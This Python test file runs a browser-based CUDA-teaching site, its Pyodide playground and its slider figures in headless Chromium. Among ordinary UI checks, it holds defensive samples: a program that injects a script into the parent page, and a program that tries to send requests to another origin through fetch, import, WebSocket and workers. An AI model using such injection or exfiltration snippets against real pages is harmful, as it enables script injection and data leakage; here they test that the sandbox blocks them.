"""The first page, the playground and the figures with sliders, as a reader uses them: in headless Chromium, with Python in it."""

import http.server
import json
import random
import threading
import time
from types import SimpleNamespace

import pytest
from accessibility import barriers
from checks import only_slow
from small_site import ROOT, build, hook, served

pytest.importorskip("mkdocs")
pytest.importorskip("mkdocs_jupyter")
PAGES = ["index.md", "playground.md", "sliders.md"]
FRAME = "document.querySelector('.stage iframe')"
SAID = "document.querySelector('.stage-said').textContent"
STATE = "document.querySelector('.stage').dataset.state"
MARKED = (
    "[...document.querySelectorAll('.code-field pre .bad')].map(line => line.textContent.trim())"
)
CODE = "document.querySelector('.code-field textarea').value"
CUT_OFF = """[...document.querySelectorAll('.stage button, .stage-foot *, .tracks *, .slider *, select')]
    .filter(e => e.getBoundingClientRect().right > innerWidth - 8).map(e => e.outerHTML)"""
RACE = ["right = x[(i + 1) % 64]", "x[i] = right"]
LOAD = 120  # seconds for Python's first load, on a machine that does other work, too


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """The three pages with what runs Python, on a server."""
    from xtrain.errors import UserError

    try:
        hook("browser").packages()
    except UserError as error:
        pytest.skip(f"needs Pyodide: {error}")  # npm fetches it; nothing else runs Python in a page
    folder = build(tmp_path_factory.mktemp("first_page"), PAGES, python=True)
    with served(folder) as address:
        yield SimpleNamespace(folder=folder, address=address)


class Reader:
    """What a reader does on a page, with the mouse and the keyboard."""

    def __init__(self, browser, site):
        self.browser = browser
        self.site = site

    def open(self, page, width=1400, height=1000, fresh=True):
        self.browser.open("about:blank")  # another fragment alone would load nothing
        if fresh:  # Material keeps the scheme of the first visit
            kinds = dict(origin=self.site.address, storageTypes="local_storage")
            self.browser.call("Storage.clearDataForOrigin", **kinds)
        self.browser.open(self.site.address + page, width, height)

    def click(self, selector, inside=False, times=1):
        """Click on the middle of an element, inside the stepper's frame or not, quickly several times."""
        page = f"{FRAME}.contentDocument" if inside else "document"
        x, y = self.browser.evaluate(f"""(() => {{
            const target = {page}.querySelector({selector!r}), frame = {FRAME if inside else "null"};
            (frame || target).scrollIntoView({{block: 'center', behavior: 'instant'}});
            const box = target.getBoundingClientRect(), outer = frame?.getBoundingClientRect() || {{x: 0, y: 0}};
            return [outer.x + box.x + box.width / 2, outer.y + box.y + box.height / 2];
        }})()""")
        for n in range(times):
            same = dict(x=x, y=y, button="left", clickCount=n + 1)
            for kind in ("mousePressed", "mouseReleased"):
                self.browser.call("Input.dispatchMouseEvent", type=kind, **same)

    def key(self, name, code):
        for kind in ("keyDown", "keyUp"):
            self.browser.call(
                "Input.dispatchKeyEvent", type=kind, key=name, code=name, windowsVirtualKeyCode=code
            )

    def stepper(self):
        """Wait for the page of the steps."""
        self.browser.wait(f"{FRAME}.contentDocument.querySelector('#count')?.textContent")

    def ran(self):
        """Wait until a program has run. -> what the page says"""
        self.browser.wait(f"{STATE} != 'busy'", LOAD)
        return self.browser.evaluate(SAID)

    def complaints(self):
        """Errors of the console, and requests to other places than the site."""
        own = f"request to {self.site.address}"
        return [c for c in self.browser.complaints if not c.startswith((own, "request to blob:"))]


@pytest.fixture
def reader(browser, site):
    browser.call("Network.clearBrowserCache")
    return Reader(browser, site)


def write_the_missing_line(browser, line):
    """Type it into the empty line of rotate.py."""
    browser.evaluate("""(() => { const area = document.querySelector('.code-field textarea'); area.focus();
        const end = area.value.indexOf('        x[i]') - 1, begin = area.value.lastIndexOf('64]', end) + 4;
        area.setSelectionRange(begin, end) })()""")
    browser.type(f"        {line}")


def test_a_reader_sees_the_race_writes_the_line_and_runs_it(reader):
    browser = reader.browser
    reader.open("index.html")
    reader.stepper()
    above = "document.querySelector('.stage').getBoundingClientRect().bottom < document.querySelector('h1').getBoundingClientRect().top"
    assert browser.evaluate(above)
    assert browser.evaluate(MARKED) == []
    reader.click("#next", inside=True)
    browser.wait(f"{STATE} == 'bad'")
    assert browser.evaluate(MARKED) == RACE
    assert (
        "thread 0 read x[1] at rotate.py:12, thread 1 wrote it at rotate.py:14"
        in browser.evaluate(SAID)
    )
    loaded = browser.evaluate("performance.getEntriesByType('resource').map(r => r.name)")
    assert loaded and not any(name.endswith(("/runtime.js", "/worker.js")) for name in loaded)

    write_the_missing_line(browser, "cuda.threadfence()")  # a fence orders, and does not wait
    assert browser.evaluate(STATE) == ""
    reader.click("[data-do=run]")
    assert "data race in rotate" in reader.ran()
    reader.stepper()
    browser.wait(f"{MARKED}.length == 2")
    assert browser.evaluate(MARKED) == RACE
    assert browser.evaluate("document.querySelector('.stage-after').hidden")

    write_the_missing_line(browser, "cuda.syncthreads()")
    reader.click("[data-do=run]")
    assert reader.ran() == "No race. 64 threads, four turns, every access checked."
    assert "60 61 62 63  0  1  2  3]" in browser.evaluate(
        "document.querySelector('.stage-out').textContent"
    )
    browser.wait(f"{FRAME}.contentDocument.querySelector('#count')?.textContent.endsWith('of 16')")
    assert (
        browser.evaluate(
            "document.querySelector('.stage-after a.start').getBoundingClientRect().width"
        )
        > 50
    )
    assert browser.evaluate(MARKED) == []
    assert reader.complaints() == []

    reader.click("[data-do=reset]")  # as it was; the button writes the line, too
    browser.wait(f"{FRAME}.contentDocument.querySelector('#count')?.textContent == 'step 1 of 3'")
    assert "cuda.syncthreads()\n        x[i]" not in browser.evaluate(CODE)
    reader.click("#next", inside=True)
    browser.wait("!document.querySelector('[data-do=help]').hidden")
    reader.click("[data-do=help]")
    assert "cuda.syncthreads()\n        x[i]" in browser.evaluate(CODE)


def test_the_tracks_show_what_has_been_passed(reader):
    browser = reader.browser
    reader.open("index.html")
    start = "document.querySelector('.starts .start')"
    assert browser.evaluate(f"{start}.textContent") == "Start"
    assert browser.evaluate("document.querySelectorAll('.track').length") == 3
    assert browser.evaluate("document.querySelectorAll('.track li').length") == 46
    first = browser.evaluate("document.querySelector('.track li').dataset.exercises").split()
    assert first == ["1.1", "1.2", "1.3"]
    passed = json.dumps([*first, "2.1"])
    browser.evaluate(f"localStorage.setItem('xtrain/passed', {passed!r})")
    try:
        reader.open("index.html", fresh=False)
        browser.wait(f"{start}.textContent == 'Continue with lesson 2'")
        assert browser.evaluate(f"{start}.href").endswith("/02_memory.html")
        assert browser.evaluate(
            "[...document.querySelectorAll('.track progress')].map(p => p.value)"
        ) == [1, 0, 0]
        classes = browser.evaluate(
            "[...document.querySelectorAll('.track li')].slice(0, 3).map(li => li.className)"
        )
        assert classes == ["passed", "begun next", ""]
    finally:
        browser.evaluate("localStorage.removeItem('xtrain/passed')")
    assert reader.complaints() == []


def replace_all(browser, text):
    browser.evaluate("document.querySelector('.code-field textarea').select()")
    browser.type(text)


HOSTILE = """from xtrain.simulator import stepper
page = stepper.Stepper.page
script = "<script>parent.hacked = 1</script>"
stepper.Stepper.page = lambda self: page(self).replace("</body>", script + "</body>")
"""


def test_an_example_races_and_says_what_the_build_has_said(reader):
    """The steps that the site brings, and those of a run in the browser: the same lines, the same sentences."""
    browser = reader.browser
    reader.open("playground.html#lock.py")
    browser.wait(f"{STATE} == 'bad'")
    said = browser.evaluate(SAID)
    lines = ["before = total[0]", "total[0] = before + x[cuda.blockIdx.x]"]
    assert all(line in said for line in lines)
    reader.stepper()
    browser.wait(f"{MARKED}.length == 2")
    assert browser.evaluate(MARKED) == lines
    reader.click("[data-do=run]")
    assert reader.ran() == said
    browser.wait(f"{MARKED}.length == 2")
    assert browser.evaluate(MARKED) == lines

    browser.evaluate("""(() => { const menu = document.querySelector('.pick select'); menu.value = 'saxpy.py';
        menu.dispatchEvent(new Event('change')) })()""")
    browser.wait(f"{STATE} == 'good'")
    out = "document.querySelector('.stage-out').textContent"
    assert browser.evaluate(out) == "100 elements, 128 threads: correct\n"

    source = (ROOT / "lessons/playground/saxpy.py").read_text(encoding="utf-8")
    replace_all(browser, HOSTILE + source)  # a link may bring a program that writes into the page
    reader.click("[data-do=run]")
    reader.ran()
    time.sleep(0.3)
    assert browser.evaluate("window.hacked") is None

    replace_all(browser, "import os\nos._exit(1)")  # Python is gone, and starts again
    reader.click("[data-do=run]")
    assert "exit" in reader.ran().lower()
    assert browser.evaluate(STATE) == "bad"

    replace_all(browser, "while True:\n    pass")
    reader.click("[data-do=run]")
    browser.wait(f"{SAID} == 'Running …'", LOAD)
    time.sleep(0.2)
    reader.click("[data-do=run]")
    assert reader.ran() == "Stopped."
    assert browser.evaluate("document.querySelector('[data-do=run]').textContent") == "Run"

    replace_all(browser, "print(6 * 7)")  # in the Python that was loaded again
    reader.click("[data-do=run]")
    assert reader.ran() == "It has run to its end. It has launched no kernel."
    assert browser.evaluate(out) == "42\n"
    assert reader.complaints() == []


SENDS = '''import js
from pyodide.code import run_js
other = "ADDRESS"
run_js(f"fetch('{other}fetch', {{mode: 'no-cors'}}).catch(() => 0)")
run_js(f"import('{other}module.js').catch(() => 0)")
run_js(f"try {{ new WebSocket('{other}socket'.replace('http', 'ws')) }} catch {{}}")
run_js("""
try { new Worker(URL.createObjectURL(new Blob(["fetch('OTHERnested', {mode: 'no-cors'})"]))) } catch {}
""".replace("OTHER", other))
run = [f"import js; js.fetch('{other}of_the_site')", "a.py", "{}"]
own = "SITEbrowser/worker.js"
run_js("""
(own, run) => { try { new Worker(own, {type: "module"}).postMessage({id: 1, run: run.toJs()}) } catch {} }
""")(own, run)
print(js.location.protocol)
'''


@only_slow  # Pyodide starts, and time passes
def test_a_program_of_the_playground_sends_nothing_to_another_site(reader):
    """It may have come with a link. Five ways to do it, one by a worker of this site without the page's policy."""
    browser = reader.browser
    asked = []

    class Other(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_): ...

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        program = SENDS.replace("ADDRESS", f"http://127.0.0.1:{other.server_port}/")
        program = program.replace("SITE", reader.site.address)
        reader.open("playground.html")
        replace_all(browser, program)
        reader.click("[data-do=run]")
        assert "run to its end" in reader.ran()
        assert browser.evaluate("document.querySelector('.stage-out').textContent") == "blob:\n"
        time.sleep(15)  # the last way loads Python once more
        other.shutdown()
    assert asked == []


def test_a_link_holds_the_program(reader):
    browser = reader.browser
    text = "# ü, 字, </script><b>\nprint('sent')\n" + "\n".join(f"x{i} = {i}" for i in range(40))
    reader.open("playground.html")
    browser.wait(f"{STATE} == 'bad'")
    browser.evaluate("document.querySelector('.code-field textarea').select()")
    browser.type(text)
    reader.click("[data-do=link]")
    browser.wait("location.hash.startsWith('#code=')")
    fragment = browser.evaluate("location.hash")
    assert len(fragment) < len(text) and fragment[6:].replace("-", "").replace("_", "").isalnum()
    reader.open("playground.html" + fragment)
    browser.wait(f"{CODE}.includes('sent')")
    assert browser.evaluate(CODE) == text
    assert browser.evaluate("document.querySelector('.stage-out').hidden")  # nothing has run
    reader.open("playground.html#code=A" + fragment[9:])
    browser.wait(f"{STATE} == 'bad'")
    assert "damaged" in browser.evaluate(SAID)
    assert reader.complaints() == []


def choose(browser, name):
    browser.evaluate(f"""(() => {{ const menu = document.querySelector('.pick select'); menu.value = {name!r};
        menu.dispatchEvent(new Event('change')) }})()""")


def test_another_program_is_chosen_while_python_loads(reader):
    """The first one does not run then, and the button is that of the second."""
    browser = reader.browser
    reader.open("playground.html#lock.py")
    browser.wait(f"{STATE} == 'bad'")
    replace_all(browser, "print('must not run')")
    reader.click("[data-do=run]")
    choose(browser, "saxpy.py")
    browser.wait(f"{CODE}.includes('saxpy')")
    button = "document.querySelector('[data-do=run]').textContent"
    assert browser.evaluate(button) == "Run"
    browser.evaluate("import('./browser/runtime.js').then(async (s) => void (await s.start()))")
    time.sleep(0.5)  # in which the first program would begin
    assert browser.evaluate(button) == "Run"
    replace_all(browser, "print('the second')")
    reader.click("[data-do=run]")
    assert "run to its end" in reader.ran()
    assert browser.evaluate("document.querySelector('.stage-out').textContent") == "the second\n"
    assert browser.evaluate(button) == "Run"
    assert reader.complaints() == []


def test_a_double_click_runs_a_program_once(reader):
    """Run becomes Stop, in the same place: the second click must not end what the first one has started."""
    browser = reader.browser
    reader.open("playground.html")
    count = (
        "import sys, time\nsys.runs = getattr(sys, 'runs', 0) + 1\ntime.sleep(1)\nprint(sys.runs)"
    )
    replace_all(browser, count)
    # while Python loads, and when it is loaded: another Python would count from 1 again
    for n in (1, 2):
        reader.click("[data-do=run]", times=10)
        assert "run to its end" in reader.ran()
        assert browser.evaluate("document.querySelector('.stage-out').textContent") == f"{n}\n"
    assert reader.complaints() == []


def test_what_was_written_is_not_lost(reader):
    """Over a reload, another program and the back button, and a link to a heading of the page."""
    browser = reader.browser
    mine = "print('mine')  # 字"
    reader.open("playground.html")
    browser.wait(f"{STATE} == 'bad'")
    example = browser.evaluate(CODE)
    replace_all(browser, mine)
    choose(browser, "saxpy.py")
    browser.wait(f"{CODE}.includes('saxpy')")
    browser.evaluate("history.back()")
    browser.wait(f"{CODE} == {json.dumps(mine)}")
    browser.evaluate("document.querySelector('h1 .headerlink, a[href^=\"#\"]').click()")
    time.sleep(0.3)
    assert browser.evaluate("location.hash") not in ("", "#saxpy.py")
    assert browser.evaluate(CODE) == mine
    browser.evaluate("window.isOld = true")
    browser.call("Page.reload")
    browser.wait(
        f"!window.isOld && document.readyState == 'complete' && {CODE} == {json.dumps(mine)}"
    )
    assert browser.evaluate("document.querySelector('.stage-out').hidden")  # nothing has run
    reader.click("[data-do=reset]")
    assert browser.evaluate(CODE) == example
    browser.wait("history.state === null")
    browser.evaluate("window.isOld = true")
    browser.call("Page.reload")
    browser.wait(f"!window.isOld && document.readyState == 'complete' && {STATE} == 'bad'")
    assert browser.evaluate(CODE) == example
    assert reader.complaints() == []


def test_long_programs(reader):
    """Links of 200 kB, and what is too long for one. Above 100 kB the text has no colours: each key would wait for them."""
    browser = reader.browser
    reader.open("playground.html")
    browser.wait(f"{STATE} == 'bad'")
    drawn = random.Random(1)
    noise = lambda n: "".join(f"x{i} = {drawn.randrange(10**15)}\n" for i in range(n)) + "x"
    write = "(text => { const area = document.querySelector('.code-field textarea'); area.value = text; area.dispatchEvent(new Event('input')) })(%s)"
    coloured = "document.querySelectorAll('.code-field pre span').length"
    browser.evaluate(write % json.dumps("# é\n" * 20_000))
    assert browser.evaluate(coloured) == 20_000
    text = noise(14_000)
    assert len(text) > 300_000
    browser.evaluate(write % json.dumps(text))
    assert browser.evaluate(coloured) == 0
    reader.click("[data-do=link]")
    browser.wait(f"{SAID}.includes('may cut it')")
    fragment = browser.evaluate("location.hash")
    assert len(fragment) > 100_000
    reader.open("playground.html" + fragment)
    browser.wait(f"{CODE} == {json.dumps(text)}")
    browser.evaluate(write % json.dumps(noise(120_000)))
    reader.click("[data-do=link]")
    browser.wait(f"{SAID}.includes('too long for a link')")
    assert browser.evaluate("location.hash") == fragment
    assert reader.complaints() == []


def test_what_programs_for_messages_do_to_a_link(reader):
    browser = reader.browser
    text = "print('sent')"
    reader.open("playground.html")
    browser.wait(f"{STATE} == 'bad'")
    replace_all(browser, text)
    reader.click("[data-do=link]")
    browser.wait("location.hash.startsWith('#code=')")
    code = browser.evaluate("location.hash").removeprefix("#code=")
    for fragment in (f"#code%3D{code}", f"#code={code}.", f"#CODE={code})"):
        reader.open("playground.html" + fragment)
        browser.wait(f"{CODE} == {json.dumps(text)}")
    reader.open("playground.html#another-page")
    browser.wait(f"{STATE} == 'bad'")
    assert "def block_sum" in browser.evaluate(CODE)
    assert reader.complaints() == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1400])
def test_every_page_is_as_wide_as_the_screen(reader, width, scheme):
    browser = reader.browser
    browser.call(
        "Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}]
    )
    try:
        for page in (
            "index.html",
            "playground.html",
            "playground.html#transpose.py",
            "sliders.html",
        ):
            reader.open(page, width)
            if page != "sliders.html":
                reader.stepper()
                inner = f"{FRAME}.contentDocument.documentElement.scrollWidth - {FRAME}.contentWindow.innerWidth"
                assert browser.evaluate(inner) <= 0
                assert (
                    browser.evaluate(f"{FRAME}.contentDocument.documentElement.style.colorScheme")
                    == scheme
                )
            assert browser.evaluate("document.documentElement.scrollWidth") <= width
            assert browser.evaluate(CUT_OFF) == []
            assert barriers(browser) == []
        assert reader.complaints() == []
    finally:
        browser.call("Emulation.setEmulatedMedia", features=[])


def test_the_figures_follow_the_arrow_keys(reader):
    browser = reader.browser
    reader.open("sliders.html")
    figures = "[...document.querySelectorAll('figure.slider')]"
    assert browser.evaluate(f"{figures}.length") == 5
    for n in range(5):
        said = f"{figures}[{n}].querySelector('.slider-said').textContent"
        before = browser.evaluate(said)
        drawn = browser.evaluate(f"{figures}[{n}].querySelector('svg').innerHTML")
        browser.evaluate(f"{figures}[{n}].querySelector('input').focus()")
        for _ in range(3):
            reader.key("ArrowRight", 39)
        assert browser.evaluate(said) != before
        assert browser.evaluate(f"{figures}[{n}].querySelector('svg').innerHTML") != drawn
    assert reader.complaints() == []
